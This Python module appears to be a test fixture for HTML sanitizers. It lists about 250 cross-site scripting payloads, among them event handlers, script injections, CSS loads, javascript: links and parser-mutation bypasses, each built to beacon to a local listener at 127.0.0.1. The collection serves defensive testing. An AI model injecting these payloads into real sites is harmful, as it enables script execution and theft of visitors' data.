"""What hostile people put into posts: each wants to reach an address that tests listen to.

`HIT` stands for that address, `RUN` for a script that asks for it. None needs a browser's old
faults; some work in none, and are here for the next one.
"""

from __future__ import annotations

RUN = "new Image().src='HIT'"

_HANDLERS = (
    '<img src=x onerror="RUN">',
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="RUN" onerror="RUN">',
    '<IMG SRC=x ONERROR="RUN">',
    '<img/src=x/onerror="RUN">',
    '<img\tsrc=x\tonerror="RUN">',
    '<img\nsrc=x\nonerror\n=\n"RUN">',
    '<img src=x onerror = "RUN" alt="a">',
    "<img src=x onerror=\"&#110;ew Image().src='HIT'\">",
    "<img src=x onerror=\"\\u006eew Image().src='HIT'\">",
    '<img src=x alt="`><img src=y onerror=RUN>">',
    '<img src=`x` onerror="RUN">',
    '<img src="x" title="a\'b" onerror="RUN">',
    '<image src=x onerror="RUN">',
    '<picture><source srcset=x><img onerror="RUN"></picture>',
    '<svg onload="RUN"></svg>',
    '<svg/onload="RUN">',
    '<svg><g onload="RUN"></g></svg>',
    '<svg><image href=x onerror="RUN"></image></svg>',
    '<svg><animate onbegin="RUN" attributeName=x dur=1s></animate></svg>',
    '<svg><set onbegin="RUN" attributeName=x to=0></set></svg>',
    '<svg><animateTransform onbegin="RUN" attributeName=transform></animateTransform></svg>',
    '<svg><animateMotion onbegin="RUN" dur=1s></animateMotion></svg>',
    '<svg><style onload="RUN"></style></svg>',
    '<svg><foreignObject><img src=x onerror="RUN"></foreignObject></svg>',
    '<svg><desc><img src=x onerror="RUN"></desc></svg>',
    '<svg><title><img src=x onerror="RUN"></title></svg>',
    '<body onload="RUN">',
    '<body onpageshow="RUN">',
    '<body onresize="RUN">',
    '<body onhashchange="RUN">',
    '<video src=x onerror="RUN"></video>',
    '<video><source src=x onerror="RUN"></video>',
    '<video onloadstart="RUN" src=x></video>',
    '<video poster=x onloadstart="RUN"><source src=y></video>',
    '<audio src=x onerror="RUN"></audio>',
    '<audio autoplay onloadstart="RUN" src=x></audio>',
    '<audio><source src=x onerror="RUN"></audio>',
    '<video src=x><track default src=y onerror="RUN"></video>',
    '<details open ontoggle="RUN"><summary>a</summary>b</details>',
    '<input autofocus onfocus="RUN">',
    '<textarea autofocus onfocus="RUN"></textarea>',
    '<select autofocus onfocus="RUN"></select>',
    '<button autofocus onfocus="RUN">a</button>',
    '<a href="#" autofocus onfocus="RUN">a</a>',
    '<p tabindex=1 autofocus onfocus="RUN">a</p>',
    '<iframe onload="RUN"></iframe>',
    '<iframe src="about:blank" onload="RUN"></iframe>',
    '<object data=x onerror="RUN"></object>',
    '<embed src=x onerror="RUN" onload="RUN">',
    '<link rel=stylesheet href=x onerror="RUN">',
    '<script src=x onerror="RUN"></script>',
    '<style onload="RUN"></style>',
    '<marquee onstart="RUN">a</marquee>',
    '<p onmouseover="RUN" style="position:fixed;inset:0;font-size:99px">over</p>',
    '<p onpointerenter="RUN" style="position:fixed;inset:0">over</p>',
    '<div onclick="RUN" style="position:fixed;inset:0;background:red">click</div>',
    '<p onwheel="RUN">a</p>',
    '<p contenteditable autofocus onfocus="RUN">a</p>',
    (
        "<style>@keyframes k{from{top:0}to{top:1px}}</style>"
        '<p style="animation:k 1ms" onanimationstart="RUN">a</p>'
    ),
    '<p style="transition:all 1ms" ontransitionend="RUN">a</p>',
    '<input type=image src=x onerror="RUN">',
    '<p hidden=until-found onbeforematch="RUN">a</p>',
    '<dialog open onclose="RUN"><form method=dialog><button autofocus>a</button></form></dialog>',
    '<p oncontentvisibilityautostatechange="RUN" style="display:block;content-visibility:auto">a',
    '<svg><a xlink:href="#" onclick="RUN"><text y=20>a</text></a></svg>',
)

_SCRIPTS = (
    "<script>RUN</script>",
    "<SCRIPT>RUN</SCRIPT>",
    "<script >RUN</script >",
    "<script/x>RUN</script>",
    "<script\n>RUN</script\n>",
    "<script type=module>RUN</script>",
    "<script type=text/javascript>RUN</script>",
    "<script async src=HIT></script>",
    "<script defer src=HIT></script>",
    "<script type=module src=HIT></script>",
    "<script src=//127.0.0.1:PORT/PATH></script>",
    (
        '<script type=importmap>{"imports":{"a":"HIT"}}</script>'
        '<script type=module>import "a"</script>'
    ),
    "<script>document.title='FIRED';RUN</script>",
    "<script>parent.document.title='FIRED';RUN</script>",
    "<script>top.location='HIT'</script>",
    "<script>fetch('HIT',{mode:'no-cors'})</script>",
    "<script>navigator.sendBeacon('HIT')</script>",
    "<script>new EventSource('HIT')</script>",
    "<script>window.open('HIT')</script>",
    "<script>document.write('<img src=HIT>')</script>",
    "<script>eval('new Image().src=\"HIT\"')</script>",
    "<script>setTimeout('new Image().src=\"HIT\"',0)</script>",
    "<script>Function('new Image().src=\"HIT\"')()</script>",
    "<script>new Worker(URL.createObjectURL(new Blob([`fetch('HIT',{mode:'no-cors'})`])))</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<<script>RUN//<</script>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href='data:text/javascript,new Image().src=\"HIT\"'></script></svg>",
    "<svg><script xlink:href=HIT></script></svg>",
    "<math><script>RUN</script></math>",
    "<script src=\"data:text/javascript,new Image().src='HIT'\"></script>",
    "<noscript><script>RUN</script></noscript><script>RUN</script>",
    "<xss><script>RUN</script></xss>",
    "<p><![CDATA[<script>RUN</script>]]></p>",
    "]]><script>RUN</script>",
    "--><script>RUN</script>",
)

_LOADS = (
    "<img src=HIT>",
    "<img src='HIT' loading=eager>",
    "<img src=//127.0.0.1:PORT/PATH>",
    "<img srcset='HIT 1x'>",
    "<img srcset='HIT 100w' sizes=100px>",
    "<img lowsrc=HIT dynsrc=HIT src=HIT>",
    "<picture><source srcset=HIT><img src=data:,></picture>",
    "<video poster=HIT controls></video>",
    "<video src=HIT autoplay></video>",
    "<video autoplay><source src=HIT></video>",
    "<video src=data:,><track default src=HIT></video>",
    "<audio src=HIT autoplay></audio>",
    "<audio autoplay preload=auto><source src=HIT></audio>",
    "<input type=image src=HIT>",
    "<body background=HIT>",
    "<table background=HIT><tr><td>a</table>",
    "<table><tr><td background=HIT>a</table>",
    "<p style='background:url(HIT)'>a</p>",
    "<p style='background-image:url(\"HIT\")'>a</p>",
    "<p style='background:\\75rl(HIT)'>a</p>",
    "<p style='background:url/**/(HIT)'>a</p>",
    "<p style='background:image-set(\"HIT\" 1x)'>a</p>",
    "<p style='background:-webkit-image-set(url(HIT) 1x)'>a</p>",
    "<p style='background:cross-fade(url(HIT),url(HIT),50%)'>a</p>",
    "<p style='width:expression(RUN)'>a</p>",
    "<p style='behavior:url(HIT)'>a</p>",
    "<p style='-moz-binding:url(HIT#a)'>a</p>",
    "<p style='content:url(HIT)'>a</p>",
    "<p style='border:9px solid;border-image:url(HIT) 1'>a</p>",
    "<p style='cursor:url(HIT),auto;position:fixed;inset:0'>a</p>",
    "<ul style='list-style-image:url(HIT)'><li>a</ul>",
    "<p style='mask-image:url(HIT)'>a</p>",
    "<p style='filter:url(HIT#a)'>a</p>",
    "<p style='clip-path:url(HIT#a)'>a</p>",
    "<p style='shape-outside:url(HIT);float:left'>a</p>",
    "<p style='--a:url(HIT);background:var(--a)'>a</p>",
    "<style>@import 'HIT';</style>",
    "<style>@import url(HIT);</style>",
    "<style>@\\69mport 'HIT';</style>",
    "<style>body{background:url(HIT)}</style>",
    "<style>*{background:url('HIT')!important}</style>",
    "<style>@font-face{font-family:a;src:url(HIT)}*{font-family:a}</style>a",
    "<style>p::before{content:url(HIT)}</style><p>a",
    "<style>@layer a;@import 'HIT' layer(a);</style>",
    "<svg><style>@import 'HIT';</style></svg>",
    "<svg><style>*{background:url(HIT)}</style></svg>",
    "<link rel=stylesheet href=HIT>",
    "<link rel=preload as=image href=HIT>",
    "<link rel=modulepreload href=HIT>",
    "<link rel=prefetch href=HIT>",
    "<link rel='shortcut icon' href=HIT>",
    "<link rel=manifest href=HIT>",
    "<svg><image href=HIT width=9 height=9></image></svg>",
    "<svg><image xlink:href=HIT width=9 height=9></image></svg>",
    "<svg><use href='HIT#a'></use></svg>",
    (
        "<svg><filter id=f><feImage href=HIT></feImage></filter>"
        "<rect filter='url(#f)' width=9 height=9></rect></svg>"
    ),
    "<svg><rect fill='url(HIT#a)' width=9 height=9></rect></svg>",
    "<svg><rect style='fill:url(HIT#a)' width=9 height=9></rect></svg>",
    "<math><mglyph src=HIT></mglyph></math>",
    "<frameset><frame src=HIT></frameset>",
)

_NAVIGATIONS = (
    "<meta http-equiv=refresh content='0;url=HIT'>",
    "<meta http-equiv=refresh content='0; HIT'>",
    "<META HTTP-EQUIV=Refresh CONTENT=\"0;URL='HIT'\">",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>",
    "<p><meta http-equiv=refresh content='0;url=HIT'></p>",
    "<meta http-equiv=Content-Security-Policy content='default-src *; script-src *'><img src=HIT>",
    "<meta http-equiv=set-cookie content='a=b'>",
    "<base href=HIT/><img src=a>",
    "<base target=_top href=HIT/><script src=a></script>",
    "<iframe src=HIT></iframe>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>",
    '<iframe srcdoc="&lt;img src=HIT&gt;"></iframe>',
    "<iframe src=\"javascript:new Image().src='HIT'\"></iframe>",
    "<iframe src=\"data:text/html,<img src='HIT'>\"></iframe>",
    "<iframe sandbox='allow-scripts allow-same-origin' src=HIT></iframe>",
    "<iframe name=x></iframe><a href=HIT target=x autofocus>a</a><iframe src=HIT></iframe>",
    "<object data=HIT></object>",
    "<object data=HIT type=text/html></object>",
    "<object data=\"data:text/html,<script>new Image().src='HIT'</script>\"></object>",
    "<object><param name=src value=HIT><embed src=HIT></object>",
    "<embed src=HIT>",
    "<embed src=HIT type=text/html>",
    "<embed src=\"data:text/html,<script>new Image().src='HIT'</script>\">",
    "<applet code=HIT></applet>",
    "<portal src=HIT></portal>",
    "<fencedframe src=HIT></fencedframe>",
    "<form action=HIT><input type=submit autofocus style='position:fixed;inset:0'></form>",
    "<form id=f action=HIT></form><button form=f style='position:fixed;inset:0'>a</button>",
    "<form><button formaction=HIT style='position:fixed;inset:0'>a</button></form>",
    (
        "<form action=\"javascript:new Image().src='HIT'\">"
        "<button style='position:fixed;inset:0'>a</button></form>"
    ),
    (
        "<form method=post action=HIT target=_top>"
        "<button style='position:fixed;inset:0'>a</button></form>"
    ),
    "<isindex type=image src=HIT action=HIT>",
)

_COVER = "style='position:fixed;inset:0;font-size:99px'"
_LINKS = (
    f"<a href=HIT {_COVER}>a</a>",
    f"<a href=HIT target=_top {_COVER}>a</a>",
    f"<a href=HIT target=_blank {_COVER}>a</a>",
    f"<a href=HIT target=_parent {_COVER}>a</a>",
    f"<a href=HIT download {_COVER}>a</a>",
    f"<a href='#a' ping=HIT {_COVER}>a</a>",
    f'<a href="javascript:RUN" {_COVER}>a</a>',
    f'<a href="JaVaScRiPt:RUN" {_COVER}>a</a>',
    f'<a href=" javascript:RUN" {_COVER}>a</a>',
    f'<a href="\x01javascript:RUN" {_COVER}>a</a>',
    f'<a href="java\tscript:RUN" {_COVER}>a</a>',
    f'<a href="java&#10;script:RUN" {_COVER}>a</a>',
    f'<a href="javascript&colon;RUN" {_COVER}>a</a>',
    f'<a href="&#x6A;avascript:RUN" {_COVER}>a</a>',
    f'<a href="javascript:void(0);RUN" target=_self {_COVER}>a</a>',
    f'<a href="vbscript:RUN" {_COVER}>a</a>',
    f'<a href="data:text/html,<script>RUN</script>" {_COVER}>a</a>',
    f'<a href="feed:javascript:RUN" {_COVER}>a</a>',
    f'<a href="view-source:javascript:RUN" {_COVER}>a</a>',
    (
        "<svg style='position:fixed;inset:0'><a href=\"javascript:RUN\">"
        "<rect width=999 height=999></rect></a></svg>"
    ),
    "<svg style='position:fixed;inset:0'><a xlink:href=HIT><rect width=999 height=999></rect></a>",
    (
        "<svg style='position:fixed;inset:0'><a>"
        "<animate attributeName=href values='javascript:RUN'></animate>"
        "<rect width=999 height=999></rect></a></svg>"
    ),
    (
        "<svg style='position:fixed;inset:0'><a><set attributeName=href to='HIT'></set>"
        "<rect width=999 height=999></rect></a></svg>"
    ),
    f'<math href="javascript:RUN" {_COVER}><mi>a</mi></math>',
    f"<map name=m><area href=HIT coords=0,0,999,999></map><img usemap=#m src=x {_COVER}>",
)

_MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=&quot;RUN&quot;>">',
    "<svg><p><style><a title=\"</style><img src=x onerror='new Image().src=`HIT`'>\">",
    '<math><mtext><table><mglyph><style><img src=x onerror="RUN">',
    (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x '
        'onerror=RUN&gt;">'
    ),
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="RUN">',
    "<svg></p><style><a id=\"</style><img src=x onerror='new Image().src=`HIT`'>\">",
    "<svg><desc><style><img title=\"</style><img src=x onerror='new Image().src=`HIT`'>\">",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror="RUN"></style>',
    '<math><annotation-xml encoding="text/html"><script>RUN</script></annotation-xml></math>',
    '<template><img src=x onerror="RUN"></template><img src=x onerror="RUN">',
    '<template shadowrootmode=open><img src=x onerror="RUN"></template>',
    '<div><template shadowrootmode=open><style>@import "HIT"</style></template></div>',
    '<textarea></textarea><img src=x onerror="RUN"></textarea>',
    '<title></title><img src=x onerror="RUN">',
    '<xmp></xmp><img src=x onerror="RUN"></xmp>',
    '<plaintext><img src=x onerror="RUN">',
    '<!--><img src=x onerror="RUN">-->',
    '<!--!> <img src=x onerror="RUN"> -->',
    '<!---><img src=x onerror="RUN">',
    '<!-- --!><img src=x onerror="RUN">',
    '<?xml?><img src=x onerror="RUN">',
    '<![if IE]><img src=x onerror="RUN"><![endif]>',
    '</article></main></body></html><img src=x onerror="RUN">',
    "</style><script>RUN</script>",
    "</title><script>RUN</script>",
    "</iframe><script>RUN</script>",
    '"><script>RUN</script>',
    "'><script>RUN</script>",
    '" onmouseover="RUN" style="position:fixed;inset:0" x="',
    "' autofocus onfocus='new Image().src=`HIT`' x='",
    '<table><tr><td><select><option><style></option></select><img src=x onerror="RUN"></style>',
    '<select><template><style></template></select><img src=x onerror="RUN">',
    '<a href="x"><table><a href="y"><img src=x onerror="RUN">',
    '\u2028<img src=x onerror="RUN">\u202e',
    '<img src=x onerror="RUN" <p>a',
    "<p/onclick=RUN//><img src=x onerror=RUN//",
    '{{constructor.constructor("RUN")()}}<img src=x onerror="RUN">',
    "&lt;script&gt;RUN&lt;/script&gt;<script>RUN</script>",
    "&amp;lt;img src=x onerror=RUN&amp;gt;<img src=HIT>",
    '<style></style\x20x><img src=x onerror="RUN">',
)

PAYLOADS: tuple[str, ...] = (
    *_HANDLERS,
    *_SCRIPTS,
    *_LOADS,
    *_NAVIGATIONS,
    *_LINKS,
    *_MUTATIONS,
)


def aimed(payload: str, port: int, number: int) -> str:
    """The payload, whose success is heard under its number by who listens at this port."""
    path = f"hit/{number}"
    said = payload.replace("RUN", RUN).replace("HIT", f"http://127.0.0.1:{port}/{path}")
    return said.replace("PORT", str(port)).replace("PATH", path)
